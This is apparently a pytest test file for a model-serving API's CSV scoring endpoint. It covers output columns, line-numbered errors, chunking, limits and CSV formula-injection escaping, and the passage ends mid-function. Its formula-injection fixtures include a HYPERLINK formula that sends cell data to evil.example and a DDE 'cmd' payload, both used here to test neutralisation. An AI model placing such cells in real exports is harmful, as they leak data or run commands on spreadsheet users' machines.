"""CSV batch scoring through the predict endpoint: the scored file, line-numbered errors, chunks, limits."""
from __future__ import annotations

import csv
import io
import subprocess
import sys
import textwrap
import tracemalloc
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from app import create_app
from app.core import scoring
from app.core.codecs import csvfile as csvreading
from app.core.codecs.csvanswer import Table, neutralise_formulas
from app.core.codecs.csvfile import CsvLimits
from app.core.errors import InvalidInput
from app.core.schema import InputSchema

HEADER = "sepal_length,sepal_width,petal_length,petal_width"
SETOSA, VIRGINICA = "5.0,3.4,1.5,0.2", "6.6,3.0,5.5,2.0"
CSV = {"Content-Type": "text/csv", "Accept": "text/csv"}


def post_csv(client, text: str | bytes, url: str = "/v1/models/iris/predict", **headers):
    return client.post(url, data=text, headers={**CSV, **headers})


def frame(response) -> pd.DataFrame:
    return pd.read_csv(io.BytesIO(response.data), dtype=str)


def test_scored_file_keeps_every_column_and_appends_predictions(client):
    response = post_csv(client, f"case,{HEADER}\nA,{SETOSA}\nB,6.60,3.0,5.5,2.0\n")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"] == 'attachment; filename="iris-v2-predictions.csv"'
    assert response.headers["X-Rows-Scored"] == "2"
    assert int(response.headers["Content-Length"]) == len(response.data)
    scored = frame(response)
    assert list(scored.columns) == ["case", *HEADER.split(","), "prediction"]
    assert scored["prediction"].tolist() == ["setosa", "virginica"]
    assert scored["sepal_length"].tolist() == ["5.0", "6.60"]  # values come back exactly as sent


def test_probabilities_add_one_column_per_class(client):
    scored = frame(post_csv(client, f"{HEADER}\n{SETOSA}\n", "/v1/models/iris/versions/1/predict?probabilities=true"))
    columns = ["probability_setosa", "probability_versicolor", "probability_virginica"]
    assert list(scored.columns)[-4:] == ["prediction", *columns]
    assert scored[columns].astype(float).sum(axis=1).round(9).tolist() == [1.0]


def test_regressor_and_categorical_pipeline(client):
    scored = frame(post_csv(client, "x_0,x_1,x_2\n1,2,3\n0,0,0\n", "/v1/models/linear/predict"))
    assert [round(float(v), 6) for v in scored["prediction"]] == [2.5, 0.5]  # 1 + 2*2 - 3 + 0.5
    scored = frame(post_csv(client, "size,colour\n30,red\n2,blue\n", "/v1/models/shop/predict"))
    assert scored["prediction"].tolist() == ["True", "False"]


@pytest.mark.parametrize("accept", [None, "*/*", "text/*", "application/json;q=0.9, text/csv;q=0.5"])
def test_csv_is_answered_when_the_client_accepts_it(client, accept):
    headers = {"Content-Type": "text/csv", **({"Accept": accept} if accept else {})}
    response = client.post("/v1/models/iris/predict", data=f"{HEADER}\n{SETOSA}\n", headers=headers)
    assert response.status_code == 200 and response.mimetype == "text/csv"


def test_csv_body_with_json_only_accept_is_406(client):
    response = post_csv(client, f"{HEADER}\n{SETOSA}\n", Accept="application/json")
    assert response.status_code == 406
    assert response.mimetype == "application/problem+json"
    assert "Accept: text/csv" in response.get_json()["detail"]


def test_invalid_rows_are_reported_by_line_and_nothing_is_scored(repo):
    app = create_app({"TESTING": True, "MODEL_REPOSITORY": str(repo), "CSV_CHUNK_ROWS": 2})
    text = f"{HEADER}\n{SETOSA}\n\n5.0,wide,1.5,0.2\n{SETOSA}\n{SETOSA}\n1e400,3.4,,0.2\n{SETOSA}\n"
    response = post_csv(app.test_client(), text)
    assert response.status_code == 400
    body = response.get_json()
    assert body["errors"] == [
        {"path": "line 4/sepal_width", "message": "must be a number, got string"},
        {"path": "line 7/petal_length", "message": "is empty: every row needs a value in this column"},
        {"path": "line 7/sepal_length", "message": "must be a number, got string"},
    ]
    assert body["detail"].startswith("2 line(s) of the file failed validation, so nothing was scored")


def test_rows_with_too_many_values_name_their_line(client):
    errors = post_csv(client, f"{HEADER}\n{SETOSA}\n{SETOSA},9\n").get_json()["errors"]
    assert errors == [{"path": "line 3", "message": "has 5 values; the header has 4 columns"}]


def test_unknown_category_is_reported_with_the_allowed_values(client):
    errors = post_csv(client, "colour,size\nred,3\npurple,4\n", "/v1/models/shop/predict").get_json()["errors"]
    assert errors == [{"path": "line 3/colour", "message": "must be one of 'blue', 'green', 'red'"}]


@pytest.mark.parametrize("text, path, hint", [
    ("", "line 1", "first line must be a header"),
    ("sepal_length,sepal_width,petal_length\n1,2,3\n", "line 1/petal_width", "header row must name"),
    (f"{HEADER},petal_width\n", "line 1/petal_width", "header row must name"),
    ("5.0,3.4,1.5,0.2\n6.6,3.0,5.5,2.0\n", "line 1/sepal_length", "Is the first line a header row?"),
    (f"{HEADER}\n", "line 2", "no data rows"),
    (b"sepal_length,sepal_width,petal_length,petal_width\n5,3,1,\xff\n", "", "not UTF-8"),
    (("\ufeff" + HEADER).encode(), "line 2", "no data rows"),
    (f"{HEADER}\n{SETOSA}\n".encode("utf-16-be"), "line 1", "UTF-16"),
])
def test_unusable_files_say_how_to_fix_them(client, text, path, hint):
    body = post_csv(client, text).get_json()
    assert body["status"] == 400
    assert hint in body["detail"]
    assert path in [e["path"] for e in body["errors"]]


def test_spreadsheet_variants_semicolons_bom_and_crlf(client):
    text = "\ufeff" + HEADER.replace(",", ";") + "\r\n5,0;3,4;1,5;0,2\r\n"  # decimal commas are not numbers
    paths = {e["path"] for e in post_csv(client, text.encode()).get_json()["errors"]}
    assert paths == {f"line 2/{name}" for name in HEADER.split(",")}
    response = post_csv(client, ("\ufeff" + HEADER.replace(",", ";") + "\r\n5.0;3.4;1.5;0.2\r\n").encode())
    assert response.get_data(as_text=True) == HEADER.replace(",", ";") + ";prediction\n5.0;3.4;1.5;0.2;setosa\n"


def test_existing_prediction_column_is_replaced_not_duplicated(client):
    scored = frame(post_csv(client, f"{HEADER},prediction\n{SETOSA},old\n"))
    assert list(scored.columns).count("prediction") == 1 and scored["prediction"].tolist() == ["setosa"]


def test_failing_lines_are_all_counted_but_the_list_is_capped(client):
    text = HEADER + "\n" + "x,3.4,1.5,0.2\n" * (scoring.MAX_REPORTED + 50)
    body = post_csv(client, text).get_json()
    assert len(body["errors"]) == scoring.MAX_REPORTED
    assert body["detail"].startswith(f"{scoring.MAX_REPORTED + 50} line(s)")
    assert f"only the first {scoring.MAX_REPORTED} problems are listed" in body["detail"]


def test_big_files_are_predicted_chunk_by_chunk(repo, monkeypatch):
    app = create_app({"TESTING": True, "MODEL_REPOSITORY": str(repo), "CSV_CHUNK_ROWS": 40})
    sizes: list[int] = []
    with app.app_context():
        runtime = app.extensions["modelhost.registry"].get("iris").ready_runtime()
    original = runtime.predict_arrays
    monkeypatch.setattr(runtime, "predict_arrays", lambda matrix, p: sizes.append(len(matrix)) or original(matrix, p))
    monkeypatch.setattr(scoring, "SPOOL_BYTES", 1024)  # the answer moves to disk instead of growing in memory
    response = post_csv(app.test_client(), HEADER + "\n" + f"{SETOSA}\n{VIRGINICA}\n" * 50)
    assert response.status_code == 200
    assert sizes == [40, 40, 20]
    scored = frame(response)
    assert len(scored) == 100 and scored["prediction"].tolist() == ["setosa", "virginica"] * 50


def test_body_over_the_size_limit_is_413_including_chunked(repo):
    client = create_app({"TESTING": True, "MODEL_REPOSITORY": str(repo), "MAX_CONTENT_LENGTH": 1000}).test_client()
    big = (HEADER + "\n" + f"{SETOSA}\n" * 100).encode()
    response = post_csv(client, big)
    assert response.status_code == 413 and response.mimetype == "application/problem+json"
    # No Content-Length: the limit holds while the chunks are read, and no partial file is returned.
    response = client.post("/v1/models/iris/predict", input_stream=io.BytesIO(big),
                           headers={**CSV, "Transfer-Encoding": "chunked"},
                           environ_base={"wsgi.input_terminated": True})
    assert response.status_code == 413 and response.mimetype == "application/problem+json"


def test_probabilities_of_a_regressor_are_refused_before_reading(client):
    response = post_csv(client, "x_0,x_1,x_2\n1,2,3\n", "/v1/models/linear/predict?probabilities=true")
    assert response.status_code == 400 and "without class probabilities" in response.get_json()["detail"]


def test_openapi_documents_csv_and_its_example_scores(client):
    spec = client.get("/apispec.json").get_json()
    operation = spec["paths"]["/v1/models/iris/predict"]["post"]
    example = operation["requestBody"]["content"]["text/csv"]["example"]
    assert example.splitlines()[0] == HEADER
    assert "text/csv" in operation["responses"]["200"]["content"] and "406" in operation["responses"]
    assert post_csv(client, example).status_code == 200
    for path in ("/v1/models/iris/predict", "/v1/models/iris/versions/{version}/predict"):
        parameters = {p["name"]: p for p in spec["paths"][path]["post"]["parameters"]}
        assert parameters["escape_formulas"]["in"] == "query"
        assert parameters["escape_formulas"]["schema"] == {"type": "boolean"}
        assert "CSV_ESCAPE_FORMULAS" in parameters["escape_formulas"]["description"]


def test_other_content_types_are_still_415_and_name_csv(client):
    response = client.post("/v1/models/iris/predict", data="x", headers={"Content-Type": "text/plain"})
    assert response.status_code == 415 and "text/csv" in response.get_json()["detail"]


@pytest.fixture(scope="module")
def typed_client(tmp_path_factory: pytest.TempPathFactory):
    """A model trained on whole numbers, booleans, categories and numbers."""
    from app.training import train as training

    root = tmp_path_factory.mktemp("typed") / "models"
    rows = 40
    data = pd.DataFrame({"visits": [i % 7 for i in range(rows)], "member": [i % 3 == 0 for i in range(rows)],
                         "colour": ["red", "green", "blue", "red"] * (rows // 4),
                         "size": [float(i) / 3 for i in range(rows)]})
    data["bought"] = ["yes" if (c == "red" or m) else "no" for c, m in zip(data["colour"], data["member"], strict=True)]
    training.train(root, "typed", data, training.TrainingOptions(target="bought"), {"file": "typed.csv"},
                   progress=lambda _: None)
    return create_app({"TESTING": True, "MODEL_REPOSITORY": str(root)}).test_client()


def test_whole_numbers_and_booleans_are_read_like_form_fields(typed_client):
    text = "visits,member,colour,size\n3,yes,red,1.5\n3.0,FALSE,green,2\n 4 ,on,blue,0\n"
    scored = frame(post_csv(typed_client, text, "/v1/models/typed/predict"))
    assert scored["prediction"].tolist() == ["yes", "no", "yes"]
    bad = "visits,member,colour,size\n3.5,maybe,red,1\n"
    errors = post_csv(typed_client, bad, "/v1/models/typed/predict").get_json()["errors"]
    assert errors == [{"path": "line 2/member", "message": "must be a boolean, got string"},
                      {"path": "line 2/visits", "message": "must be an integer, got number"}]


# Rows wider than the header, line breaks and delimiters at the ends of lines.

@pytest.mark.parametrize("sep", [",", ";"])
def test_rows_wider_than_the_header_are_reported_by_line_never_shifted(client, sep):
    text = f"{HEADER}\n{SETOSA},9\n{VIRGINICA},9\n".replace(",", sep)
    response = post_csv(client, text)
    assert response.status_code == 400
    assert response.get_json()["errors"] == [{"path": "line 2", "message": "has 5 values; the header has 4 columns"},
                                             {"path": "line 3", "message": "has 5 values; the header has 4 columns"}]


def test_rows_two_values_wider_name_the_first_such_line(client):
    errors = post_csv(client, f"{HEADER}\n{SETOSA},9,9\n{SETOSA},9,9\n").get_json()["errors"]
    assert errors == [{"path": "line 2", "message": "has 6 values; the header has 4 columns"}]


@pytest.mark.parametrize("newline", ["\r", "\r\n", "\n"], ids=["cr-old-mac", "crlf", "lf"])
def test_every_kind_of_line_break_is_read_with_exact_line_numbers(client, newline):
    response = post_csv(client, newline.join([HEADER, SETOSA, VIRGINICA, ""]))
    assert response.status_code == 200
    assert frame(response)["prediction"].tolist() == ["setosa", "virginica"]
    errors = post_csv(client, newline.join([HEADER, SETOSA, "", "5.0,wide,1.5,0.2", ""])).get_json()["errors"]
    assert errors == [{"path": "line 4/sepal_width", "message": "must be a number, got string"}]


def test_a_delimiter_at_the_end_of_every_row_holds_no_value(client):
    response = post_csv(client, f"{HEADER}\n{SETOSA},\n{VIRGINICA},\n")
    assert response.status_code == 200
    assert response.get_data(as_text=True) == f"{HEADER},prediction\n{SETOSA},setosa\n{VIRGINICA},virginica\n"


def test_delimiters_at_the_end_of_the_header_too_keep_unnamed_columns(client):
    response = post_csv(client, f"{HEADER},,\n{SETOSA},,\n{VIRGINICA},note,\n")
    assert response.status_code == 200
    assert response.get_data(as_text=True) == (f"{HEADER},,,prediction\n{SETOSA},,,setosa\n"
                                               f"{VIRGINICA},note,,virginica\n")


def test_a_quote_never_closed_names_its_line(client):
    body = post_csv(client, f'{HEADER}\n{SETOSA}\n"5.0,3.4,1.5,0.2\n{SETOSA}\n').get_json()
    assert body["status"] == 400
    assert body["errors"] == [{"path": "line 3", "message": 'opens a quoted value (") that is never closed: '
                               "add the closing quote, or remove the stray one"}]


def test_a_header_longer_than_64_kib_is_read_whole(client):
    notes = [f"note_with_a_long_descriptive_name_{i:04d}" for i in range(1800)]
    header = ",".join([HEADER, *notes])
    assert len(header) > 64 * 1024
    response = post_csv(client, f"{header}\n{SETOSA}{',x' * len(notes)}\n")
    assert response.status_code == 200
    scored = frame(response)
    assert list(scored.columns) == [*HEADER.split(","), *notes, "prediction"]
    assert scored["prediction"].tolist() == ["setosa"] and scored[notes[-1]].tolist() == ["x"]


LIMITS = CsvLimits(chunk_rows=5_000, max_columns=2_048)


def unbatched(runtime, probabilities: bool):
    """What the dataplane hands score_csv, without batching: each chunk straight to the runtime."""
    return lambda batch, lines: runtime.predict(batch.columns, probabilities)


class Trickle(io.RawIOBase):
    """A body that arrives a few bytes per read, as from a slow connection."""

    def __init__(self, data: bytes, size: int) -> None:
        super().__init__()
        self.data, self.size = data, size

    def readable(self) -> bool:
        return True

    def readinto(self, buffer) -> int:
        block, self.data = self.data[:min(self.size, len(buffer))], self.data[min(self.size, len(buffer)):]
        buffer[:len(block)] = block
        return len(block)


@pytest.mark.parametrize("size", [1, 1000])
def test_the_header_is_read_whole_however_the_body_arrives(app, size):
    with app.app_context():
        runtime = app.extensions["modelhost.registry"].get("iris").ready_runtime()
    notes = ",".join(f"note_{i}" for i in range(1500))
    text = f"{HEADER},{notes}\r\n{SETOSA}{',' * 1500}\r\n5.0,wide,1.5,0.2{',' * 1500}\r\n"
    with pytest.raises(InvalidInput) as refused:  # "\r\n" split between reads is one line break, not two
        scoring.score_csv(Trickle(text.encode(), size), runtime, False, LIMITS, unbatched(runtime, False))
    assert refused.value.errors == [{"path": "line 3/sepal_width", "message": "must be a number, got string"}]
    scored = scoring.score_csv(Trickle(text.replace("wide", "3.4").encode(), size), runtime, False, LIMITS,
                               unbatched(runtime, False))
    assert scored.rows == 2 and b"".join(scored.blocks()).startswith(f"{HEADER},{notes},prediction\n".encode())


# Limits: columns and header line (CSV_MAX_COLUMNS).

def test_a_file_of_400k_columns_is_refused_cheaply_before_it_is_parsed(client):
    body = (",".join(f"c{i}" for i in range(400_000)) + "\n").encode()  # it once took 365 MB and 7 s, then 500
    tracemalloc.start()
    try:
        response = post_csv(client, body)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert response.status_code == 413 and response.mimetype == "application/problem+json"
    assert "MODELHOST_CSV_MAX_COLUMNS" in response.get_json()["detail"]
    assert peak < len(body) / 2


def test_csv_max_columns_caps_the_columns_and_the_header_line(repo):
    client = create_app({"TESTING": True, "MODEL_REPOSITORY": str(repo), "CSV_MAX_COLUMNS": 6}).test_client()
    assert post_csv(client, f"{HEADER},a,b\n{SETOSA},1,2\n").status_code == 200
    response = post_csv(client, f"{HEADER},a,b,c\n{SETOSA},1,2,3\n")
    assert response.status_code == 413
    body = response.get_json()
    assert body["errors"] == [{"path": "line 1", "message": "has 7 columns; at most 6 are read"}]
    assert "MODELHOST_CSV_MAX_COLUMNS" in body["detail"] and "sepal_length" in body["detail"]
    response = post_csv(client, f"{HEADER},{'n' * 6 * 128}\n{SETOSA},1\n")  # 5 columns, but a header over 6 * 128 bytes
    assert response.status_code == 413
    assert response.get_json()["errors"] == [{"path": "line 1", "message": "is longer than 768 bytes"}]


# Integer features: CSV reads a value as JSON does.

TYPED = "/v1/models/typed/predict?probabilities=true"


def _typed_answers(client, value: str):
    as_csv = post_csv(client, f"visits,member,colour,size\n{value},yes,red,1.5\n", TYPED)
    as_json = client.post(TYPED, data=f'{{"visits": {value}, "member": true, "colour": "red", "size": 1.5}}',
                          content_type="application/json")
    return as_csv, as_json


@pytest.mark.parametrize("value", ["1e20", "-1e20", "100000000000000000000", "9223372036854775808",
                                   "-9223372036854775808"])
def test_integers_beyond_int64_are_refused_in_csv_as_in_json(typed_client, value):
    as_csv, as_json = _typed_answers(typed_client, value)
    assert as_csv.status_code == as_json.status_code == 400
    assert as_csv.get_json()["errors"] == [{"path": "line 2/visits", "message": e["message"]}
                                           for e in as_json.get_json()["errors"]]


@pytest.mark.parametrize("value", ["5", "9223372036854775807", "-9223372036854775807", "4611686018427387904"])
def test_integers_within_int64_predict_the_same_from_csv_and_json(typed_client, value):
    as_csv, as_json = _typed_answers(typed_client, value)
    assert as_csv.status_code == as_json.status_code == 200
    scored, answer = frame(as_csv).iloc[0], as_json.get_json()
    assert scored["visits"] == value and scored["prediction"] == answer["prediction"]
    assert {label: float(scored[f"probability_{label}"]) for label in answer["probabilities"]} == \
        answer["probabilities"]


def test_a_suspect_row_beside_whole_number_columns_is_judged_not_a_500(typed_client):
    # Whole-number columns parse to int64 arrays that pandas hands out read-only; the row-by-row
    # check of a suspect line writes into every column.
    text = "visits,member,colour,size\n3,yes,red,1.5\n4,no,blue,2\n5.0,yes,green,1\n"
    scored = frame(post_csv(typed_client, text, TYPED))
    assert scored["visits"].tolist() == ["3", "4", "5.0"] and len(scored["prediction"]) == 3
    bad = post_csv(typed_client, "visits,member,colour,size\n-739874861445187986,yes,red,1.5\n*\n", TYPED)
    assert bad.status_code == 400 and "line 3" in bad.get_data(as_text=True)


# Formula injection (escape_formulas, CSV_ESCAPE_FORMULAS).

NOTES = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "@SUM(1)", "+cmd|' /C calc'!A0", "-2+3", "\tindent",
         "\rreturn", "-1.5", "+3", "1e-5", "plain", "a=b"]
NEUTRALISED = ["'" + n for n in NOTES[:6]] + NOTES[6:]


@pytest.fixture
def formula_client(tmp_path, iris_like, write_version):
    """A classifier whose class labels start like formulas, and a file of formula-like notes."""
    X, y = iris_like()
    from sklearn.linear_model import LogisticRegression

    labels = {"setosa": "=setosa", "versicolor": "-versicolor", "virginica": "@virginica"}
    write_version(tmp_path / "models", "formulas", 1, LogisticRegression(max_iter=500).fit(X, [labels[v] for v in y]))
    return lambda config=None: create_app({"TESTING": True, "MODEL_REPOSITORY": str(tmp_path / "models"),
                                           **(config or {})}).test_client()


def _formula_file() -> str:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n", quoting=csv.QUOTE_ALL)  # a lone "\r" must be quoted too
    writer.writerow(["=total", "note", *HEADER.split(",")])
    writer.writerows([[str(i), note, *SETOSA.split(",")] for i, note in enumerate(NOTES)])
    return out.getvalue()


def _read_back(response) -> pd.DataFrame:
    return pd.read_csv(io.BytesIO(response.data), dtype=str, keep_default_na=False)


@pytest.mark.parametrize("config, query, escaped", [
    ({}, "", False),
    ({}, "?escape_formulas=true", True),
    ({}, "?escape_formulas=false", False),
    ({"CSV_ESCAPE_FORMULAS": True}, "", True),
    ({"CSV_ESCAPE_FORMULAS": "on"}, "?escape_formulas=off", False),
])
def test_escape_formulas_quotes_formula_cells_and_labels_but_not_numbers(formula_client, config, query, escaped):
    response = post_csv(formula_client(config), _formula_file(), f"/v1/models/formulas/predict{query}")
    assert response.status_code == 200
    scored = _read_back(response)
    assert list(scored.columns)[:2] == (["'=total", "note"] if escaped else ["=total", "note"])
    assert scored["note"].tolist() == (NEUTRALISED if escaped else NOTES)
    assert scored["prediction"].tolist() == ["'=setosa" if escaped else "=setosa"] * len(NOTES)
    assert scored["sepal_length"].tolist() == ["5.0"] * len(NOTES)


def test_escape_formulas_is_read_strictly(formula_client):
    response = post_csv(formula_client(), _formula_file(), "/v1/models/formulas/predict?escape_formulas=maybe")
    assert response.status_code == 400
    assert response.get_json()["errors"] == [{"path": "?escape_formulas",
                                              "message": "must be true or false, got 'maybe'"}]


def test_negative_predictions_stay_numbers_when_formulas_are_escaped(client):
    response = post_csv(client, "x_0,x_1,x_2\n0,0,5\n", "/v1/models/linear/predict?escape_formulas=true")
    assert round(float(frame(response)["prediction"][0]), 6) == -4.5  # 0 + 0 - 5 + 0.5
    assert "'" not in response.get_data(as_text=True)


@pytest.mark.parametrize("cell, written", [
    ("=1+1", "'=1+1"), ("+cmd", "'+cmd"), ("-2+3", "'-2+3"), ("@SUM(1)", "'@SUM(1)"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("-", "'-"), ("-e5", "'-e5"), ("-1.5", "-1.5"), ("+3", "+3"), ("-1,5", "-1,5"),
    ("-.5", "-.5"), ("-1e-05", "-1e-05"), ("a=b", "a=b"), ("", ""),
])
def test_neutralise_formulas_quotes_cells_and_names_that_start_a_formula(cell, written):
    out = neutralise_formulas(Table([cell, "n"], [[cell], [-1.5]]))
    assert out.names == [written, "n"]
    assert [column[0] for column in out.columns] == [written, -1.5]


def test_a_value_holding_a_lone_carriage_return_comes_back_quoted(client):
    response = post_csv(client, f'note,{HEADER}\n"one\rtwo",{SETOSA}\n"three",{VIRGINICA}\n')
    assert response.status_code == 200
    assert '"one\rtwo"' in response.get_data(as_text=True)  # unquoted, readers would split the row there
    scored = frame(response)
    assert scored["note"].tolist() == ["one\rtwo", "three"] and scored["prediction"].tolist() == ["setosa", "virginica"]


# The reader and the writer on their own: a stub runtime shows what reaches the model and what is written.

class StubRuntime:
    """What score_csv uses of a runtime: the schema, the class labels and predict(), which keeps what it got."""

    def __init__(self, features, predictions=None, classes=(), probabilities=None) -> None:
        self.schema = InputSchema(features)
        self.classes = list(classes)
        self.predictions, self.probabilities = predictions, probabilities
        self.seen: list[dict] = []
        self.answered = 0

    def predict(self, columns, probabilities):
        """The answers of the next rows, chunk after chunk (predictions of 0 unless given)."""
        self.seen.append(columns)
        size = len(next(iter(columns.values())))
        rows, self.answered = slice(self.answered, self.answered + size), self.answered + size
        predictions = [0] * size if self.predictions is None else self.predictions[rows]
        return predictions, self.probabilities[rows] if probabilities and self.probabilities else None


NUMBER = [{"name": "x", "type": "number"}]
UNCLOSED = 'opens a quoted value (") that is never closed: add the closing quote, or remove the stray one'


def score(text: str | bytes, runtime: StubRuntime, chunk_rows: int = 5_000, probabilities: bool = False) -> str:
    body = io.BytesIO(text.encode() if isinstance(text, str) else text)
    scored = scoring.score_csv(body, runtime, probabilities, CsvLimits(chunk_rows, 2_048),
                               unbatched(runtime, probabilities))
    return b"".join(scored.blocks()).decode()


def refused(text: str | bytes, runtime: StubRuntime, chunk_rows: int = 5_000) -> InvalidInput:
    with pytest.raises(InvalidInput) as caught:
        score(text, runtime, chunk_rows)
    return caught.value


def test_reading_and_scoring_do_not_import_pandas():
    script = textwrap.dedent("""
        import io, sys
        sys.modules["pandas"] = None  # any import of pandas now raises ImportError
        from app.core.codecs.csvfile import CsvFile, CsvLimits
        from app.core.schema import InputSchema
        from app.core.scoring import score_csv

        class Runtime:
            schema, classes = InputSchema([{"name": "x", "type": "number"}]), []

            def predict(self, columns, probabilities):
                return (columns["x"] * 2).tolist(), None

        limits = CsvLimits(2, 16)
        chunks = list(CsvFile(io.BytesIO(b"x,note\\n1.5,a\\n\\n2,b\\n3,c\\n"), limits, ["x"]).chunks())
        assert [(c.lines, c.columns) for c in chunks] == [([2], [["1.5"], ["a"]]), ([4, 5], [["2", "3"], ["b", "c"]])]
        runtime = Runtime()
        predict = lambda batch, lines: runtime.predict(batch.columns, False)
        scored = score_csv(io.BytesIO(b"x\\n1.5\\n-2\\n"), runtime, False, limits, predict)
        assert b"".join(scored.blocks()) == b"x,prediction\\n1.5,3.0\\n-2,-4.0\\n"
    """)
    done = subprocess.run([sys.executable, "-c", script], cwd=Path(__file__).parents[2], capture_output=True, text=True)
    assert done.returncode == 0, done.stderr


@pytest.mark.parametrize("values", [
    [1e-05, 1e16, 123456789012345680.0, -0.0, 0.1, 1 / 3, 1e308, 5e-324, 2.5, 1e15, 123.0, -1.5e-7],
    [3, -2, 0, 2**62], [True, False], ["=a", "with, comma", 'say "hi"', "", "two\nlines"]],
    ids=["floats", "ints", "booleans", "labels"])
def test_predictions_are_written_as_pandas_wrote_them(values):
    text = "x\n" + "1\n" * len(values)
    expected = pd.DataFrame({"x": ["1"] * len(values), "prediction": values}).to_csv(index=False, lineterminator="\n")
    assert score(text, StubRuntime(NUMBER, predictions=values)) == expected


def test_a_chunk_with_a_carriage_return_quotes_its_text_and_leaves_numbers_and_booleans_bare():
    runtime = StubRuntime(NUMBER, predictions=[True, False], classes=[False, True],
                          probabilities=[{"False": 0.25, "True": 0.75}, {"False": 1e-05, "True": 0.99999}])
    text = 'note,x\n"one\rtwo",1\nplain,2\n'
    frame = pd.DataFrame({"note": ["one\rtwo", "plain"], "x": ["1", "2"], "prediction": [True, False],
                          "probability_False": [0.25, 1e-05], "probability_True": [0.75, 0.99999]})
    expected = (frame[:1].to_csv(index=False, lineterminator="\n", quoting=csv.QUOTE_NONNUMERIC)
                + frame[1:].to_csv(index=False, header=False, lineterminator="\n"))  # chunk by chunk
    assert score(text, runtime, chunk_rows=1, probabilities=True) == expected
    assert expected.startswith('"note","x","prediction","probability_False","probability_True"\n"one\rtwo","1",True,')


ACCEPTED = [" 3.5 ", "+3", ".5", "5.", "-0.0", "1e-5", "1E5", "\t7 ", "1e308", "-1.5e-300", "00012",
            "0.30000000000000004", "123456789012345678", "1.7976931348623157e308"]


def test_numbers_reach_the_model_as_pandas_read_them():
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows([["x"], *([c] for c in ACCEPTED)])
    runtime = StubRuntime(NUMBER)
    score(out.getvalue(), runtime)
    expected = pd.to_numeric(pd.Series(ACCEPTED), errors="coerce").to_numpy()
    assert runtime.seen[0]["x"].tolist() == expected.tolist()
    assert np.signbit(runtime.seen[0]["x"]).tolist() == np.signbit(expected).tolist()
    integers = StubRuntime(NUMBER)
    score("x\n-0\n 5 \n+7\n", integers)  # a column of integers is read as integers: -0 is 0
    assert integers.seen[0]["x"].tolist() == [0.0, 5.0, 7.0] and not np.signbit(integers.seen[0]["x"]).any()


def test_cells_that_are_no_numbers_are_judged_by_the_schema():
    cells = ["1,5", "0x10", "nan", "inf", "-Infinity", "1e400", "five", "1e", "--1", "1 5", ""]
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows([["x", "n"], *([c, i] for i, c in enumerate(cells))])
    errors = refused(out.getvalue(), StubRuntime(NUMBER)).errors
    assert errors == [{"path": f"line {i + 2}/x", "message": "is empty: every row needs a value in this column"
                       if not c else "must be a number, got string"} for i, c in enumerate(cells)]


def test_booleans_are_read_in_every_spelling_the_schema_knows():
    runtime = StubRuntime([{"name": "b", "type": "boolean"}])
    score("b\ntrue\n Yes \nON\n1\nfalse\nNo\noff \n0\n", runtime)
    assert runtime.seen[0]["b"].tolist() == [True] * 4 + [False] * 4
    errors = refused("b\nmaybe\n\n y\n", StubRuntime([{"name": "b", "type": "boolean"}])).errors
    assert errors == [{"path": "line 2/b", "message": "must be a boolean, got string"},
                      {"path": "line 4/b", "message": "must be a boolean, got string"}]


@pytest.mark.parametrize("cells, dtype, values", [
    (["5", " -3 ", "+9223372036854775807"], "int64", [5, -3, 2**63 - 1]),  # integers an int64 holds
    (["5", "3.0", "1e3", "9007199254740991"], "int64", [5, 3, 1000, 2**53 - 1]),  # whole numbers exact as doubles
    (["3.0", "9007199254740993"], "object", [3, 2**53 + 1]),  # a double would read 2^53: the schema's exact integer
    (["3.0", "-9223372036854775807"], "object", [3, -(2**63 - 1)]),
])
def test_integer_columns_reach_the_model_exactly(cells, dtype, values):
    runtime = StubRuntime([{"name": "n", "type": "integer"}])
    score("n\n" + "\n".join(cells) + "\n", runtime)
    assert runtime.seen[0]["n"].dtype == dtype and runtime.seen[0]["n"].tolist() == values


def test_a_row_too_wide_to_read_stops_the_reading_after_the_chunks_before_it():
    errors = refused("x,y\nbad,1\n2,1\n3,1\n4,1,9,9\n5,1\n", StubRuntime(NUMBER), chunk_rows=2).errors
    assert errors == [{"path": "line 2/x", "message": "must be a number, got string"},
                      {"path": "line 5", "message": "has 4 values; the header has 2 columns"}]


@pytest.mark.parametrize("row, values", [(",,9", 3), ("1,,9", 3), (",,,", 4), ("1,2,3,", 4)])
def test_a_value_past_the_last_column_is_reported_even_beside_empty_cells(row, values):
    errors = refused(f"x,y\n1,a\n{row}\n", StubRuntime(NUMBER)).errors
    assert errors == [{"path": "line 3", "message": f"has {values} values; the header has 2 columns"}]


def test_rows_of_empty_cells_are_blank_lines_and_short_rows_are_filled():
    runtime = StubRuntime([{"name": "x", "type": "number"}, {"name": "y", "type": "number"}])
    assert score("x,y,note\n1,2\n,,\n,\n\n,,,\n3,4,n\n", runtime) == "x,y,note,prediction\n1,2,,0\n3,4,n,0\n"
    errors = refused("x,y\n1,2\n,,\n\n5\n", runtime).errors
    assert errors == [{"path": "line 5/y", "message": "is empty: every row needs a value in this column"}]


@pytest.mark.parametrize("text, line", [
    ('x,y\n1,a\n1,"b\n2,c\n', 3),  # the value runs to the end of the file
    ('x,y\n1,a\n2,"c', 3),  # in the last line, which has no line break
    ('x,y\n1,"a\nb"\n2,"c\n', 3),  # after a value spanning two lines: rows are counted, not lines
    ('x,y\n1,a\n"', 3),
])
def test_a_quote_never_closed_names_the_row_it_opens(text, line):
    assert refused(text, StubRuntime(NUMBER)).errors == [{"path": f"line {line}", "message": UNCLOSED}]


def test_quoted_values_come_back_whole_and_the_rows_after_them_keep_their_numbers():
    text = 'x,note\n1,"two\nlines"\n2,"say ""hi"", then go"\n3,a"b\n'
    expected = 'x,note,prediction\n1,"two\nlines",7\n2,"say ""hi"", then go",8\n3,"a""b",9\n'
    assert score(text, StubRuntime(NUMBER, predictions=[7, 8, 9])) == expected
    errors = refused('x,note\n1,"two\nlines"\nbad,x\n', StubRuntime(NUMBER)).errors
    assert errors == [{"path": "line 3/x", "message": "must be a number, got string"}]


@pytest.mark.parametrize("block", [1, 2, 3, 5, 8])
def test_line_breaks_split_between_decoded_blocks_are_read_alike(monkeypatch, block):
